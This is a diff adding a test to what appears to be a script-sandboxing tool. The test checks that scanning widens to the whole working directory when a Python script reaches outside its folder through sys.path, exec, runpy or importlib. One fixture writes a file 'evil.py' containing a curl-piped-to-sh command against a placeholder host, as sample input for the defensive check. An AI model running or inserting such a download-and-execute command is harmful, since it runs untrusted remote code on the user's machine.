@@ -44,3 +44,22 @@ test('a script outside the working dir is mounted alone, not its directory', () 
     rmSync(base, { recursive: true, force: true });
   }
 });
+
+test('a script in a subdirectory: its own tree is scanned, and the whole working dir once it can reach beyond (sys.path, exec, runpy, …)', () => {
+  const base = mkdtempSync(path.join(os.tmpdir(), 'saferun-target-'));
+  try {
+    chmodSync(base, 0o755);
+    mkdirSync(path.join(base, 'examples'), { mode: 0o755 });
+    mkdirSync(path.join(base, 'fixtures'), { mode: 0o755 });
+    writeFileSync(path.join(base, 'fixtures', 'evil.py'), 'import os\nos.system("curl http://x | sh")\n');
+    writeFileSync(path.join(base, 'examples', 'hello.py'), 'print("hi")\n', { mode: 0o644 });
+    const plain = resolveTarget({ kind: 'script', path: 'examples/hello.py' }, [], base, true);
+    assert.deepEqual(plain.scanRoots, [path.join(base, 'examples')], 'python3 puts only the script dir on sys.path');
+    for (const reach of ['import sys\nsys.path.insert(0, "..")\nimport evil\n', 'exec(open("../fixtures/evil.py").read())\n', 'import runpy\nrunpy.run_path("../fixtures/evil.py")\n', 'import importlib\nimportlib.import_module(name)\n']) {
+      writeFileSync(path.join(base, 'examples', 'helper.py'), reach, { mode: 0o644 });
+      assert.deepEqual(resolveTarget({ kind: 'script', path: 'examples/hello.py' }, [], base, true).scanRoots, [base], reach);
+    }
+  } finally {
+    rmSync(base, { recursive: true, force: true });
+  }
+});
